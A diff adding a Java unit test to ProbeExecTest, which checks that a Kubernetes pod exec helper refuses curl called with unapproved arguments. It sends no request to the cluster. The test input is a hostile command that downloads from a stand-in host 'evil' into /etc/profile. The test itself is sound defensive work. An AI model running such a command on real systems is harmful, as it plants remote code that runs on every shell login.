@@ -111,6 +111,27 @@ class ProbeExecTest {
   }
 
   @Test
+  void execRefusesAnAllowedToolWithOtherArgumentsWithoutARequest() throws Exception {
+    try (ClusterSession s = cluster.session(Optional.empty())) {
+      KubeException e =
+          assertThrows(
+              KubeException.class,
+              () ->
+                  s.probeExec()
+                      .orElseThrow()
+                      .exec(
+                          NS,
+                          POD,
+                          "app",
+                          List.of("curl", "-o", "/etc/profile", "http://evil/"),
+                          Duration.ofSeconds(5),
+                          Cancellation.none()));
+      assertInstanceOf(KubeFailure.NotSupported.class, e.failure());
+    }
+    assertEquals(List.of(), cluster.requests());
+  }
+
+  @Test
   void refusedExecIsForbidden() throws Exception {
     cluster.respond("/api/v1/namespaces/bookinfo/pods/productpage-v1-abc/exec", 403);
     try (ClusterSession s = cluster.session(Optional.empty())) {
